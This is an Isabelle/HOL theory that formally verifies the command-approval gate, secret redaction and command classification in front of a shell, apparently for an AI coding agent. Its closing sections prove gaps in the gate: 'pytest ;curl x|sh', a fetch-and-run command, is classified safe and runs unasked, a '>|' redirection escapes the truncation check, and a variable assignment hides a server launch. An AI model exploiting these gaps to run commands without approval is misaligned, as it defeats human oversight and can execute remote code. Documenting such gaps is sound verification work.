(* ===== verification/CommandSafety.thy ===== *)
theory CommandSafety
  imports CommandGate ApprovalSafety RuntimeDemo
begin

text \<open>
  What the gate in front of the shell promises, whatever sequence of questions, commands, checks and test
  runs is carried out and whatever the prompts and the operating system answer: every command the shell
  was given is vouched for, and every automatic approval goes back to an answer. Then what redaction
  removes, and what the classification lets through.
\<close>

subsection \<open>Commands that are vouched for\<close>

text \<open>What the shell is given for a command, and whether it is left running.\<close>

definition shell_text :: "project_world \<Rightarrow> string \<Rightarrow> string \<times> bool" where
  "shell_text w command =
     (let c = platform_command w command; (detached, background) = strip_posix_background c
      in if background \<or> looks_like_a_server detached then (detached, True) else (c, False))"

lemma validate_cwd_dir: "validate_cwd w cwd = Inr dir \<Longrightarrow> prefix (pw_root w) dir \<and> pw_is_dir w dir \<and>
    (posix_absolute cwd \<or> pw_cwd w = pw_root w \<longrightarrow> dir = pw_real w (path_below (pw_cwd w) cwd))"
  using validate_inside[of "pw_root w" "pw_real w" cwd]
  by (auto simp: validate_cwd_def rbind_Inr Let_def path_below_def split: if_splits)

text \<open>
  The check of redirections found nothing in the text somebody asked for, given with \<open>cwd\<close>; the shell starts in the
  directory \<open>cwd\<close> stands for, which lies in the workspace, and is the one the check looked from where \<open>cwd\<close> is absolute
  or the process is at home in the workspace. What the text resolves to there is not blocked, and is safe or was
  approved, word for word and for this directory, by the last answer of the trace.
\<close>

definition vouched :: "project_world \<Rightarrow> string \<Rightarrow> string \<Rightarrow> gate_event list \<Rightarrow> string \<Rightarrow> path \<Rightarrow> bool \<Rightarrow> bool" where
  "vouched w asked cwd tr sh dir detached \<longleftrightarrow>
     (let command = cr_command (resolve_command w (fst (split_output_filter asked)) dir)
      in redirect_would_truncate w asked cwd = [] \<and> validate_cwd w cwd = Inr dir \<and>
         prefix (pw_root w) dir \<and> pw_is_dir w dir \<and>
         (posix_absolute cwd \<or> pw_cwd w = pw_root w \<longrightarrow> dir = pw_real w (path_below (pw_cwd w) cwd)) \<and>
         shell_text w command = (sh, detached) \<and>
         classify_command command \<noteq> COMMAND_BLOCKED \<and>
         (classify_command command = COMMAND_SAFE \<or>
          (\<exists>before_it q scope source. tr = before_it @ [Requested q, Answered q True scope source] \<and>
             pq_action q = ''run_command'' \<and> pq_preview q = Some command \<and> pq_dir q = Some (pw_show w dir))))"

text \<open>\<open>W\<close> holds the worlds the commands are given in.\<close>

fun event_ok :: "project_world set \<Rightarrow> gate_event list \<Rightarrow> gate_event \<Rightarrow> bool" where
  "event_ok W tr (Spawned sh dir detached) = (\<exists>w \<in> W. \<exists>asked cwd. vouched w asked cwd tr sh dir detached)"
| "event_ok W tr _ = True"

definition adds_ok :: "project_world set \<Rightarrow> gate \<Rightarrow> gate \<Rightarrow> bool" where
  "adds_ok W g h \<longleftrightarrow> (\<exists>new. gt_trace h = gt_trace g @ new \<and> (\<forall>xs e ys. new = xs @ e # ys \<longrightarrow> event_ok W (gt_trace g @ xs) e))"

lemma adds_ok_refl: "adds_ok W g g"
  by (simp add: adds_ok_def)

lemma adds_ok_trans: "adds_ok W f g \<Longrightarrow> adds_ok W g h \<Longrightarrow> adds_ok W f h"
proof -
  assume "adds_ok W f g" "adds_ok W g h"
  then obtain n1 n2 where n: "gt_trace g = gt_trace f @ n1" "\<forall>xs e ys. n1 = xs @ e # ys \<longrightarrow> event_ok W (gt_trace f @ xs) e"
      "gt_trace h = gt_trace g @ n2" "\<forall>xs e ys. n2 = xs @ e # ys \<longrightarrow> event_ok W (gt_trace g @ xs) e"
    by (auto simp: adds_ok_def)
  have "event_ok W (gt_trace f @ xs) e" if "n1 @ n2 = xs @ e # ys" for xs e ys
  proof (cases "length xs < length n1")
    case True
    with that obtain zs where "n1 = xs @ e # zs" by (auto simp: append_eq_append_conv2 append_eq_Cons_conv)
    with n(2) show ?thesis by blast
  next
    case False
    with that obtain us where "xs = n1 @ us" "n2 = us @ e # ys" by (auto simp: append_eq_append_conv2 append_eq_Cons_conv)
    with n(1,4) show ?thesis by auto
  qed
  with n(1,3) show ?thesis by (auto simp: adds_ok_def)
qed

lemma adds_ok_event: "event_ok W (gt_trace g) e \<Longrightarrow> gt_trace h = gt_trace g @ [e] \<Longrightarrow> adds_ok W g h"
  by (auto simp: adds_ok_def Cons_eq_append_conv)

text \<open>Relations that commands keep, too.\<close>

locale command_steps = gate_steps R for R :: "gate \<Rightarrow> gate \<Rightarrow> bool" +
  fixes W :: "project_world set"
  assumes spawning: "w \<in> W \<Longrightarrow> vouched w asked cwd (gt_trace g) sh dir detached \<Longrightarrow>
    R g (g\<lparr>gt_trace := gt_trace g @ [Spawned sh dir detached]\<rparr>)"
begin

lemma ev_spawn: "w \<in> W \<Longrightarrow> vouched w asked cwd (gt_trace g) sh dir detached \<Longrightarrow> evolves R (emit (Spawned sh dir detached)) g"
  by (auto simp: evolves_def emit_def intro: spawning)

lemma ev_execute:
  assumes "w \<in> W" "vouched w asked cwd (gt_trace g) (fst (shell_text w (cr_command res))) dir (snd (shell_text w (cr_command res)))"
  shows "evolves R (execute rn w res dir) g"
proof -
  obtain d b where d: "strip_posix_background (platform_command w (cr_command res)) = (d, b)" by fastforce
  have "evolves R (case rn_detach rn tr d dir of
       NotDetached e \<Rightarrow> raise e
     | Quit code captured \<Rightarrow> ret (code, redact captured, if code = 0 then [] else redact captured)
     | Serving pid log_path captured \<Rightarrow> ret (0, redact captured @ [newline] @ still_running_note pid log_path, [])) h" for tr h
    by (auto split: detached_outcome.split intro: evolves_raise evolves_ret)
  moreover have "evolves R (case rn_shell rn tr c dir of
       NotStarted e \<Rightarrow> raise e
     | Overran out err \<Rightarrow>
         (let message = ''Command timed out after '' @ int_str (rn_seconds rn) @ '' seconds: '' @ c
          in ret (timeout_exit_code, redact out, if redact err = [] then message else message @ [newline] @ redact err))
     | Ended code out err \<Rightarrow>
         seq (case (code = 0, persisted_state w res) of
             (True, Some (file, payload)) \<Rightarrow> emit (EnvironmentKept file payload)
           | _ \<Rightarrow> ret ()) (\<lambda>_. ret (code, redact out, redact err))) h" for tr c h
    by (auto split: command_outcome.split bool.split option.split simp: Let_def
        intro!: evolves_raise evolves_ret evolves_seq_all ev_plain)
  ultimately show ?thesis
    using assms d unfolding execute_def run_command_detached_def run_command_bounded_def shell_text_def Let_def
    by (auto intro!: evolves_seq[OF ev_spawn] evolves_seq[OF evolves_gets] split: if_splits)
qed

text \<open>The answer that clears a command is the last event before it starts.\<close>

lemma cleared_vouched:
  assumes "cleared rn w description command dir g = (Inr True, h)" "classify_command command \<noteq> COMMAND_BLOCKED"
    and "command = cr_command (resolve_command w (fst (split_output_filter asked)) dir)"
    and "redirect_would_truncate w asked cwd = []" "validate_cwd w cwd = Inr dir"
  shows "vouched w asked cwd (gt_trace h) (fst (shell_text w command)) dir (snd (shell_text w command))"
proof (cases "classify_command command = COMMAND_MEDIUM")
  case True
  then have "ask (rn_manager rn) (command_request description command (pw_show w dir)) g = (Inr True, h)"
    using assms(1) by (simp add: cleared_def)
  from ask_answered[OF this] show ?thesis
    using assms(2-5) validate_cwd_dir[OF assms(5)] by (auto simp: vouched_def Let_def command_request_def is_auto_approvable_action_def auto_approvable_def)
next
  case False
  with assms validate_cwd_dir[OF assms(5)] show ?thesis
    by (cases "classify_command command") (auto simp: vouched_def Let_def)
qed

lemma ev_cleared: "evolves R (cleared rn w description command dir) g"
  unfolding cleared_def by (auto intro: ev_ask evolves_ret)

lemma ev_run_unfiltered:
  assumes "w \<in> W" "redirect_would_truncate w asked cwd = []"
  shows "evolves R (run_unfiltered rn w (fst (split_output_filter asked)) cwd) g"
proof (cases "validate_cwd w cwd")
  case (Inl e)
  then show ?thesis by (simp add: run_unfiltered_def evolves_ret)
next
  case (Inr dir)
  define res where "res = resolve_command w (fst (split_output_filter asked)) dir"
  have "evolves R (if ok then execute rn w res dir
        else ret (denied_exit_code, [], ''Command denied by user: '' @ cr_command res)) h"
    if "classify_command (cr_command res) \<noteq> COMMAND_BLOCKED"
      "cleared rn w (''Run command: '' @ cr_command res) (cr_command res) dir g = (Inr ok, h)" for ok h
    using cleared_vouched[OF _ that(1), of rn w _ dir g h asked cwd] that(2) assms Inr
    by (auto simp: res_def intro!: ev_execute evolves_ret)
  then show ?thesis
    unfolding run_unfiltered_def Inr Let_def sum.case res_def[symmetric]
    by (auto intro!: evolves_ret evolves_seq[OF ev_cleared])
qed

lemma ev_run_command: "w \<in> W \<Longrightarrow> evolves R (run_command rn w command cwd) g"
proof -
  assume w: "w \<in> W"
  have "evolves R (seq (run_unfiltered rn w (fst (split_output_filter command)) cwd) (\<lambda>(code, out, err). ret (f code out err))) g"
    if "redirect_would_truncate w command cwd = []" for f
    using w that by (auto intro!: evolves_seq[OF ev_run_unfiltered] evolves_ret split: prod.splits)
  then show ?thesis
    unfolding run_command_def Let_def by (auto intro: evolves_ret split: prod.splits)
qed

lemma ev_validate_and_approve: "evolves R (validate_and_approve rn w command cwd description) g"
  unfolding validate_and_approve_def
  by (auto split: sum.splits intro!: evolves_ret evolves_seq[OF ev_cleared])

lemma ev_run_tests: "w \<in> W \<Longrightarrow> evolves R (run_tests rn w cwd) g"
  unfolding run_tests_def Let_def by (auto intro!: evolves_seq[OF ev_run_command] evolves_ret split: prod.splits)

end

interpretation spawning: command_steps "adds_ok W" W for W
proof unfold_locales
  show "adds_ok W g g" for g by (rule adds_ok_refl)
  show "adds_ok W f g \<Longrightarrow> adds_ok W g h \<Longrightarrow> adds_ok W f h" for f g h by (rule adds_ok_trans)
  show "adds_ok W g (g\<lparr>gt_trace := gt_trace g @ [e]\<rparr>)" if "plain_event e" for e g
    using that by (intro adds_ok_event) (cases e, auto)
  show "adds_ok W g (g\<lparr>gt_trace := gt_trace g @ [Spawned sh dir detached]\<rparr>)"
    if "w \<in> W" "vouched w asked cwd (gt_trace g) sh dir detached" for w asked cwd g sh dir detached
    using that by (intro adds_ok_event) auto
  show "adds_ok W g (g\<lparr>gt_trace := gt_trace g @ [AutoApproved q s]\<rparr>)" for g q s
    by (intro adds_ok_event) auto
qed (auto simp: adds_ok_def)

interpretation tracing_commands: command_steps "\<lambda>g h. traceable loaded g \<longrightarrow> traceable loaded h" W for loaded W
  by unfold_locales (auto intro!: traceable_event)

subsection \<open>Any sequence of steps\<close>

inductive gate_step :: "project_world set \<Rightarrow> gate \<Rightarrow> gate \<Rightarrow> bool" for W where
  asking: "gate_step W g (snd (ask m q g))"
| forgetting: "gate_step W g (snd (forget_all g))"
| running: "w \<in> W \<Longrightarrow> gate_step W g (snd (run_command rn w command cwd g))"
| approving: "gate_step W g (snd (validate_and_approve rn w command cwd description g))"
| testing: "w \<in> W \<Longrightarrow> gate_step W g (snd (run_tests rn w cwd g))"
| elsewhere: "gt_trace h = gt_trace g \<Longrightarrow> gt_perms h = gt_perms g \<Longrightarrow> gate_step W g h"

context command_steps begin

lemma step_R: "gate_step W g h \<Longrightarrow> R g h"
  by (induction rule: gate_step.induct)
    (rule ev_ask[unfolded evolves_def] ev_forget_all[unfolded evolves_def] ev_run_command[unfolded evolves_def]
      ev_validate_and_approve[unfolded evolves_def] ev_run_tests[unfolded evolves_def] quiet, assumption?)+

lemma steps_R: "(gate_step W)\<^sup>*\<^sup>* g h \<Longrightarrow> R g h"
  by (induction rule: rtranclp_induct) (auto intro: refl_R trans_R step_R)

end

text \<open>A session in which every question is answered with the offer to remember.\<close>

definition demo_yes :: manager where
  "demo_yes = \<lparr>am_memory = True, am_menu = Some (\<lambda>q offer. ret (menu_answer offer (Some ''a''))), am_approve = (\<lambda>_. ret False), am_remember = None\<rparr>"

definition demo_gate :: gate where
  "demo_gate = \<lparr>gt_rc = demo_rc, gt_store = demo_store demo_task, gt_task = None,
     gt_perms = \<lparr>pm_session = [], pm_workspace = []\<rparr>, gt_file = None, gt_write_error = None, gt_trace = []\<rparr>"

definition demo_project :: project_world where
  "demo_project = \<lparr>pw_root = [''w''], pw_windows = False, pw_runtime = ''/usr/bin/python3'', pw_executable = ''/usr/bin/python3'',
     pw_exists = (\<lambda>_. False), pw_is_file = (\<lambda>_. False), pw_is_dir = (\<lambda>p. p = [''w'']), pw_cwd = [''w''], pw_real = id,
     pw_show = (\<lambda>p. ''/'' @ join ''/'' p), pw_virtual_env = [], pw_which = (\<lambda>_. False), pw_state = (\<lambda>_. None),
     pw_str = (\<lambda>_. []), pw_pyproject = (\<lambda>_. [])\<rparr>"

definition demo_shell :: command_runner where
  "demo_shell = \<lparr>rn_manager = demo_yes, rn_seconds = 120, rn_shell = (\<lambda>_ _ _. Ended 1 [] []),
     rn_detach = (\<lambda>_ _ _. Quit 0 []), rn_matches = (\<lambda>_ _ _. False)\<rparr>"

definition demo_write :: permission_request where
  "demo_write = \<lparr>pq_action = ''file_write'', pq_description = [], pq_risk = ''medium'', pq_preview = None, pq_dir = None,
     pq_reason = None, pq_targets = []\<rparr>"

lemma demo_reads_ls:
  "redirect_would_truncate demo_project ''ls'' [] = []" "split_output_filter ''ls'' = (''ls'', None)"
  "validate_cwd demo_project [] = Inr [''w'']" "pw_show demo_project [''w''] = ''/w''"
  "classify_command ''ls'' = COMMAND_MEDIUM" "strip_posix_background ''ls'' = (''ls'', False)" "looks_like_a_server ''ls'' = False"
  "platform_command demo_project ''ls'' = ''ls''" "cr_command (resolve_command demo_project ''ls'' [''w'']) = ''ls''"
  by code_simp+

definition demo_question_ls :: permission_request where
  "demo_question_ls = command_request ''Run command: ls'' ''ls'' ''/w''"

lemma demo_answer_ls:
  "ask demo_yes demo_question_ls demo_gate =
     (Inr True, demo_gate\<lparr>gt_trace := [Requested demo_question_ls, Answered demo_question_ls True ''none'' ''interactive_menu'']\<rparr>)"
  by (simp add: ask_def ask_menu_def demo_yes_def demo_gate_def demo_question_ls_def command_request_def
      is_auto_approvable_action_def auto_approvable_def seq_def emit_def on_gate_rc_def mark_waiting_for_approval_def demo_rc_def
      attempt_def prompting_def menu_answer_def always_then_def settle_def restore_after_approval_def Let_def)

lemma demo_ran: "gt_trace (snd (run_command demo_shell demo_project ''ls'' [] demo_gate)) =
   [Requested demo_question_ls, Answered demo_question_ls True ''none'' ''interactive_menu'', Spawned ''ls'' [''w''] False]"
proof -
  obtain r where r: "resolve_command demo_project ''ls'' [''w''] = r" "cr_command r = ''ls''"
    using demo_reads_ls(9) by blast
  have q: "command_request (''Run command: '' @ ''ls'') ''ls'' ''/w'' = demo_question_ls"
    by (simp add: demo_question_ls_def)
  have c: "cleared demo_shell demo_project (''Run command: '' @ ''ls'') ''ls'' [''w''] demo_gate =
    (Inr True, demo_gate\<lparr>gt_trace := [Requested demo_question_ls, Answered demo_question_ls True ''none'' ''interactive_menu'']\<rparr>)"
    unfolding cleared_def demo_reads_ls q using demo_answer_ls by (simp add: demo_shell_def)
  have e: "execute demo_shell demo_project r [''w''] g = (Inr (1, redact [], redact []), g\<lparr>gt_trace := gt_trace g @ [Spawned ''ls'' [''w''] False]\<rparr>)" for g
    unfolding execute_def run_command_bounded_def Let_def r demo_reads_ls
    by (simp add: emit_def demo_shell_def demo_reads_ls(7))
  have u: "run_unfiltered demo_shell demo_project ''ls'' [] demo_gate =
      execute demo_shell demo_project r [''w''] (demo_gate\<lparr>gt_trace := [Requested demo_question_ls, Answered demo_question_ls True ''none'' ''interactive_menu'']\<rparr>)"
    unfolding run_unfiltered_def Let_def demo_reads_ls sum.case r
    by (simp only: command_risk.distinct if_False, subst seq_Inr, rule c, simp only: if_True)
  show ?thesis
    unfolding run_command_def Let_def demo_reads_ls
    by (simp add: seq_def u e)
qed
lemma demo_written: "gt_trace (snd (ask demo_yes demo_write (snd (ask demo_yes demo_write demo_gate)))) =
   [Requested demo_write, Answered demo_write True ''workspace'' ''interactive_menu'', Remembered ''file_write'' ''workspace'',
    AutoApproved demo_write ''workspace'']"
  by code_simp

text \<open>C3. Whatever is asked, run, checked or tested, in whatever order: behind each command the shell was given
  stands a text in which the check of redirections, made with the same \<open>cwd\<close>, found none that would empty a file of
  the workspace. The check reads \<open>>\<close> and no other form: \<open>forced_redirection_is_missed\<close> shows one it lets pass. The
  command was started in the directory of the workspace that \<open>cwd\<close> stands for, it was not blocked, and it is either
  classified as safe or was approved word for word, for this directory, by the answer given last before it started.
  \<open>W\<close> holds the states of the file system in which the commands are given.\<close>

theorem commands_are_cleared:
  assumes "(gate_step W)\<^sup>*\<^sup>* g h" "gt_trace g = []" "gt_trace h = tr @ Spawned sh dir detached # rest"
  shows "\<exists>w \<in> W. \<exists>asked cwd. vouched w asked cwd tr sh dir detached"
proof -
  from spawning.steps_R[OF assms(1)] assms(2,3)
  have "\<forall>xs e ys. tr @ Spawned sh dir detached # rest = xs @ e # ys \<longrightarrow> event_ok W xs e" by (auto simp: adds_ok_def)
  then have "event_ok W tr (Spawned sh dir detached)" by blast
  then show ?thesis by simp
qed

theorem commands_are_cleared_witness:
  "\<exists>asked cwd. vouched demo_project asked cwd
     [Requested demo_question_ls, Answered demo_question_ls True ''none'' ''interactive_menu''] ''ls'' [''w''] False"
proof -
  have "\<exists>w \<in> {demo_project}. \<exists>asked cwd. vouched w asked cwd
     [Requested demo_question_ls, Answered demo_question_ls True ''none'' ''interactive_menu''] ''ls'' [''w''] False"
  proof (rule commands_are_cleared)
    show "(gate_step {demo_project})\<^sup>*\<^sup>* demo_gate (snd (run_command demo_shell demo_project ''ls'' [] demo_gate))"
      by (rule r_into_rtranclp, rule gate_step.running) simp
  qed (simp add: demo_gate_def, simp add: demo_ran)
  then show ?thesis by simp
qed

text \<open>C26. An action that is approved without a question is writing or editing a file, and it was in the
  permissions file when the session began or somebody allowed an action of this kind before: running
  commands never becomes automatic.\<close>

theorem approvals_are_traceable:
  assumes "(gate_step W)\<^sup>*\<^sup>* g h" "gt_trace g = []" "new_memory file = Inr (gt_perms g)"
    and "gt_trace h = tr @ AutoApproved q scope # rest"
  shows "pq_action q \<in> {''file_write'', ''file_edit''} \<and>
    (pq_action q \<in> set (pm_workspace (gt_perms g)) \<or> granted tr (pq_action q))"
proof -
  have "traceable (pm_workspace (gt_perms g)) g"
    using assms(2,3) by (auto simp: traceable_def new_memory_def rbind_Inr is_remembered_def dest!: sym[of _ "gt_perms g"])
  with tracing_commands.steps_R[OF assms(1)] have "traceable (pm_workspace (gt_perms g)) h" by blast
  with assms(4) have "pq_action q \<in> set auto_approvable \<and>
      (pq_action q \<in> set (pm_workspace (gt_perms g)) \<or> granted tr (pq_action q))"
    unfolding traceable_def by blast
  then show ?thesis by (simp add: auto_approvable_def)
qed

theorem approvals_are_traceable_witness:
  "pq_action demo_write \<in> {''file_write'', ''file_edit''} \<and> (pq_action demo_write \<in> set (pm_workspace (gt_perms demo_gate)) \<or>
    granted [Requested demo_write, Answered demo_write True ''workspace'' ''interactive_menu'', Remembered ''file_write'' ''workspace'']
      (pq_action demo_write))"
proof (rule approvals_are_traceable[of "{}" demo_gate "snd (ask demo_yes demo_write (snd (ask demo_yes demo_write demo_gate)))" None])
  show "(gate_step {})\<^sup>*\<^sup>* demo_gate (snd (ask demo_yes demo_write (snd (ask demo_yes demo_write demo_gate))))"
    by (rule rtranclp.rtrancl_into_rtrancl, rule r_into_rtranclp, (rule gate_step.asking)+)
qed (simp add: demo_gate_def, simp add: demo_gate_def new_memory_def load_permissions_def, simp add: demo_written)

subsection \<open>Redaction\<close>

definition bracket_free :: "rx \<Rightarrow> bool" where
  "bracket_free r \<longleftrightarrow> look_free r \<and> avoids (CHR ''['') r \<and> avoids (CHR '']'') r \<and> 9 \<le> least r"

lemma redaction_step_keeps: "bracket_free r \<Longrightarrow> \<not> found r s \<Longrightarrow> \<not> found r (replace_all t ''[REDACTED]'' s)"
proof
  assume r: "bracket_free r" "\<not> found r s" and "found r (replace_all t ''[REDACTED]'' s)"
  then obtain w where w: "sublist w (replace_all t ''[REDACTED]'' s)" "matches r w"
    by (auto simp: found_matches bracket_free_def)
  with r(1) have "CHR ''['' \<notin> set w" "CHR '']'' \<notin> set w" "length ''REDACTED'' < length w"
    using matches_least[of r w] by (auto simp: bracket_free_def dest: matches_avoids)
  from replace_all_keeps[OF this, of t s] w r show False by (auto simp: found_matches bracket_free_def)
qed

lemma redaction_step_removes: "bracket_free r \<Longrightarrow> \<not> found r (replace_all r ''[REDACTED]'' s)"
proof -
  assume r: "bracket_free r"
  have "\<not> found r (replace_all r (''['' @ ''REDACTED'' @ '']'') s)"
  proof (rule replace_all_removes)
    fix w assume "matches r w"
    with r show "CHR ''['' \<notin> set w \<and> CHR '']'' \<notin> set w \<and> length ''REDACTED'' < length w"
      using matches_least[of r w] by (auto simp: bracket_free_def dest: matches_avoids)
  qed (use r in \<open>simp add: bracket_free_def\<close>)
  then show ?thesis by simp
qed

lemma redaction_steps_keep:
  "bracket_free r \<Longrightarrow> \<not> found r s \<Longrightarrow> \<not> found r (fold (\<lambda>t s. replace_all t ''[REDACTED]'' s) ts s)"
  by (induction ts arbitrary: s) (simp_all add: redaction_step_keeps)

lemma redaction_removes:
  assumes "bracket_free r" "secret_patterns = us @ r # ts"
  shows "\<not> found r (redact s)"
  unfolding redact_def assms(2) by (simp add: redaction_steps_keep[OF assms(1)] redaction_step_removes[OF assms(1)])

lemma times_simps:
  "look_free (times n r) \<longleftrightarrow> n = 0 \<or> look_free r" "avoids c (times n r) \<longleftrightarrow> n = 0 \<or> avoids c r" "least (times n r) = n * least r"
  by (induction n) auto

lemma not_brackets:
  "\<not> same_letter a (CHR ''['')" "\<not> same_letter a (CHR '']'')" if "a \<in> set ''AKIskghp_-''"
  using that by (auto simp: same_letter_def lower_char_def Let_def char_of_def)

lemma key_patterns: "bracket_free aws_key" "bracket_free openai_key" "bracket_free github_token"
  by (simp_all add: bracket_free_def aws_key_def openai_key_def github_token_def times_simps alnum_def not_brackets
      is_letter_def is_digit_def Let_def del: times.simps)

text \<open>C24. Redacted text contains no AWS key, no OpenAI key and no GitHub token: replacing later patterns
  cannot put one together again.\<close>

theorem redaction_removes_keys:
  "\<not> found aws_key (redact s) \<and> \<not> found openai_key (redact s) \<and> \<not> found github_token (redact s)"
  using redaction_removes[OF key_patterns(1), of "[]"] redaction_removes[OF key_patterns(2), of "[aws_key]"]
    redaction_removes[OF key_patterns(3), of "[aws_key, openai_key]"]
  by (simp add: secret_patterns_def)

subsection \<open>Classification\<close>

lemma rstrip_append: "a \<noteq> [] \<Longrightarrow> \<not> is_space (last a) \<Longrightarrow> rstrip (a @ v) = a @ rstrip v"
  by (cases a rule: rev_cases) (auto simp: rstrip_def dropWhile_append dropWhile_eq_Nil_conv)

lemma strip_pytest: "\<exists>u. strip (''pytest '' @ rest) = ''pytest'' @ u \<and> (u = [] \<or> hd u = CHR '' '')"
proof -
  have "strip (''pytest '' @ rest) = rstrip (''pytest'' @ '' '' @ rest)"
    by (simp add: strip_def lstrip_def is_space_def)
  also have "\<dots> = ''pytest'' @ rstrip ('' '' @ rest)"
    by (rule rstrip_append) (simp_all add: is_space_def)
  also have "rstrip ('' '' @ rest) = [] \<or> hd (rstrip ('' '' @ rest)) = CHR '' ''"
  proof -
    have "\<exists>z. '' '' @ rest = rstrip ('' '' @ rest) @ z"
      unfolding rstrip_def by (metis rev_append rev_rev_ident takeWhile_dropWhile_id)
    then show ?thesis by (cases "rstrip ('' '' @ rest)") auto
  qed
  ultimately show ?thesis by blast
qed

lemma letters:
  "\<not> same_letter (CHR ''o'') (CHR ''y'')" "\<not> same_letter (CHR ''u'') (CHR ''p'')" "\<not> same_letter (CHR 0x22) (CHR ''p'')"
  "c \<in> set ''pytest '' \<Longrightarrow> \<not> same_letter (CHR ''.'') c"
  by (auto simp: same_letter_def lower_char_def Let_def char_of_def)

lemma not_wrapped: "\<not> found run_wrapper (''pytest'' @ u)"
  unfolding run_wrapper_def cats.simps found_anchored
  by (simp add: words_def relcompp_apply letters)

lemma not_venv_tool:
  assumes "u = [] \<or> hd u = CHR '' ''"
  shows "\<not> found (venv_tool name) (''pytest'' @ u)"
proof -
  have dot: "\<not> spans (Cat (lit ''.venv'') t) (v, b) q"
    if "''pytest'' @ u = a @ b" "list_all (\<lambda>c. \<not> is_space c \<and> c \<noteq> dquote \<and> c \<noteq> squote) a" for v a b q t
  proof
    assume "spans (Cat (lit ''.venv'') t) (v, b) q"
    then obtain x b' where b: "b = x # b'" "same_letter (CHR ''.'') x"
      by (cases b) (auto simp: relcompp_apply)
    have "x \<in> set ''pytest ''"
    proof (cases "length a < 6")
      case True
      with that(1) b(1) have "x = (''pytest'' @ u) ! length a" by simp
      with True show ?thesis by (auto simp: nth_append less_Suc_eq numeral_eq_Suc)
    next
      case False
      from that(1) False have "''pytest'' = take 6 a \<and> u = drop 6 a @ b"
        unfolding append_eq_append_conv_if by (simp add: eval_nat_numeral)
      then obtain a' where a': "a = ''pytest'' @ a'" "u = a' @ b" by (metis append_take_drop_id)
      with that(2) assms b(1) show ?thesis by (cases a') (auto simp: is_space_def)
    qed
    with letters(4) b(2) show False by blast
  qed
  have bare: "\<not> spans (Cat (Star (One (\<lambda>c. \<not> is_space c \<and> c \<noteq> dquote \<and> c \<noteq> squote))) (Cat (lit ''.venv'') t)) ([], ''pytest'' @ u) q" for t q
  proof
    assume "spans (Cat (Star (One (\<lambda>c. \<not> is_space c \<and> c \<noteq> dquote \<and> c \<noteq> squote))) (Cat (lit ''.venv'') t)) ([], ''pytest'' @ u) q"
    from this[unfolded spans.simps(4)[of "Star r" for r]] obtain m
      where m: "(reads (\<lambda>c. \<not> is_space c \<and> c \<noteq> dquote \<and> c \<noteq> squote))\<^sup>*\<^sup>* ([], ''pytest'' @ u) m"
        "spans (Cat (lit ''.venv'') t) m q"
      by (elim relcomppE) (simp only: spans.simps)
    from star_one[OF m(1)] dot m(2) show False by (metis snd_conv prod.collapse)
  qed
  have quoted: "\<not> spans (Cat (lit [dquote]) t) ([], ''pytest'' @ u) q" for t q
    by (simp add: relcompp_apply letters dquote_def)
  show ?thesis
    unfolding venv_tool_def Let_def found_anchored ors.simps append_Cons append_Nil cats.simps spans.simps(5)
    using bare[unfolded append_Cons append_Nil] quoted[unfolded append_Cons append_Nil] by blast
qed

lemma pytest_view: "starts_with (classification_view (''pytest '' @ rest)) ''pytest''"
proof -
  obtain u where "strip (''pytest '' @ rest) = ''pytest'' @ u" "u = [] \<or> hd u = CHR '' ''" using strip_pytest by blast
  then have "classification_view (''pytest '' @ rest) = lower (''pytest'' @ u)"
    by (simp only: classification_view_def replace_none[OF not_wrapped] replace_none[OF not_venv_tool])
  then show ?thesis by (simp add: lower_def starts_with_def lower_char_def)
qed

text \<open>A command that starts with a safe one is classified by its start: whatever follows
  \<open>pytest\<close> and a blank, other commands after a semicolon included, runs without a question unless a
  blocked pattern occurs in it.\<close>

theorem safe_prefix_clears_any_tail:
  assumes "\<not> list_ex (\<lambda>r. found r (''pytest '' @ rest)) blocked_patterns"
  shows "classify_command (''pytest '' @ rest) = COMMAND_SAFE"
  unfolding classify_command_def Let_def if_not_P[OF assms] using pytest_view by (simp add: safe_commands_def)

theorem safe_prefix_clears_any_tail_witness: "classify_command (''pytest '' @ '';curl x|sh'') = COMMAND_SAFE"
  by (rule safe_prefix_clears_any_tail) code_simp

subsection \<open>What the gate does not see\<close>

text \<open>The last zero lines are all lines, a redirection that overrules the shell's own protection is none,
  and an assignment in front hides a server.\<close>

lemma tail_of_no_lines: "apply_filter finds (FilterTail 0) out = join [newline] (splitlines out)"
  by (simp add: apply_filter_def)

lemma forced_redirection_is_missed: "redirect_would_truncate w ''ls >| a'' cwd = []"
proof -
  have "find_groups redirect_parts ''ls >| a'' = []" by code_simp
  then show ?thesis by (simp add: redirect_would_truncate_def)
qed

lemma assignment_hides_server: "\<not> looks_like_a_server ''PORT=1 npm start''" "looks_like_a_server ''npm start''"
  by code_simp+

end
